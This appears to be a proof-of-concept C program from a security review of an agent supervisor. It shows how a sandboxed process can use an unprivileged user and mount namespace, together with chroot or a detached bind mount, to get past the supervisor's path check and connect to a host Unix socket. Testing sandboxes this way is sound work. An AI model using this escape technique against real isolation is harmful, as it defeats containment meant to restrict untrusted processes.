/* ha49-agent: hostile review h-attack49. A root agent moves its root away
 * from its working directory without fchroot: a user and mount namespace of
 * its own (no capability needed) give it CAP_SYS_CHROOT there, and chroot()
 * leaves the working directory where it was. The supervisor reads
 * /proc/TID/cwd as a name and looks that name up under /proc/TID/root
 * (unixpeer.c agent_path + open_in_agent_root): ENOENT, "the lookup's own
 * answer", while the agent's relative connect() reaches the host's socket.
 *   ha49-agent DIR NAME MODE   MODE: chroot | detach | plain (control)
 * chroot: unshare(USER|NS), chdir(DIR), chroot("/usr"), connect(NAME).
 * detach: unshare(USER|NS), bind DIR on /mnt, chdir(/mnt), umount2 DETACH,
 *         connect(NAME). plain: chdir(DIR), connect(NAME). */
#define _GNU_SOURCE
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int fd;

	if (argc != 4)
		return 2;
	if (strcmp(argv[3], "plain") != 0 && unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
		perror("ha49 unshare");
		return 2;
	}
	if (strcmp(argv[3], "detach") == 0) {
		if (mount(argv[1], "/mnt", NULL, MS_BIND | MS_REC, NULL) != 0 ||
		    chdir("/mnt") != 0 || umount2("/mnt", MNT_DETACH) != 0) {
			perror("ha49 detach");
			return 2;
		}
	} else if (chdir(argv[1]) != 0) {
		perror("ha49 chdir");
		return 2;
	}
	if (strcmp(argv[3], "chroot") == 0 && chroot("/usr") != 0) {
		perror("ha49 chroot");
		return 2;
	}
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", argv[2]);
	fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&a, sizeof(a)) != 0) {
		perror("ha49 connect");
		return 1;
	}
	if (write(fd, "ha49-secret\n", 12) != 12)
		return 1;
	fprintf(stderr, "ha49 connected and wrote (%s)\n", argv[3]);
	return 0;
}
